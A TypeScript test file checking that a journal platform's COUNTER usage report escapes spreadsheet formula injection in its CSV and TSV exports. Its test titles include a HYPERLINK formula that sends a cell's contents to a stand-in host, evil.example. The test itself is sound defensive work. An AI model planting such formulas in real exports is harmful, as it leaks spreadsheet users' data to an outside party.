// Issue 38 item 4, as the attack: an article titled "=HYPERLINK(...)" (or +, -, @, tab, CR first) must not come out
// of the COUNTER item report as a live spreadsheet formula, in CSV or TSV. The files are read back with an
// independent CSV reader (RFC 4180, written here from the RFC, not the report's own code).
import { createExecutionContext, env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import worker from "../index";
import { createArticle, createJournal, d1Of } from "#tests/api/fixtures";
import { adminToken, bearer } from "#tests/api/auth-fixtures";

/** RFC 4180 records: quoted fields may hold commas, quotes (doubled) and line breaks. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && ch === '"') quoted = false;
    else if (quoted) field += ch;
    else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += ch;
  }
  return rows;
}

const TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(1,2)", "\tleading tab", "\rleading CR"];

describe("the usage report is not a spreadsheet formula (the attack)", () => {
  it("titles starting with = + - @ tab or CR come out as text in CSV and TSV", async () => {
    const j = await createJournal();
    const day = new Date().toISOString().slice(0, 10);
    for (const [i, title] of TITLES.entries()) {
      const a = await createArticle(j.id, { refnumber: `F-${i}`, title });
      await d1Of(j).prepare("INSERT INTO usage_daily (journal_id, article_id, day, views) VALUES (?, ?, ?, 1)").bind(j.id, a.id, day).run();
    }
    const token = await adminToken(j);
    const get = async (format: string) =>
      (
        await worker.fetch(
          new Request(`http://${j.host}/api/admin/stats/report?month=${day.slice(0, 7)}&format=${format}`, {
            headers: bearer(token),
          }) as never,
          env,
          createExecutionContext(),
        )
      ).text();
    const csv = readCsv(await get("csv"));
    const tsv = (await get("tsv"))
      .split("\r\n")
      .filter(Boolean)
      .map((l) => l.split("\t"));
    for (const table of [csv, tsv]) {
      // COUNTER's header block comes first; the items follow the column row ("Item", ...).
      const items = table.slice(table.findIndex((r) => r[0] === "Item") + 1).map((r) => r[0]);
      expect(items.length).toBe(TITLES.length * 4);
      // No cell a spreadsheet evaluates: every title cell starts with the apostrophe that makes it text.
      for (const cell of table.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(items).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
      expect(items).toContain("'+1+2");
      expect(items).toContain("'@SUM(1,2)");
    }
  });
});
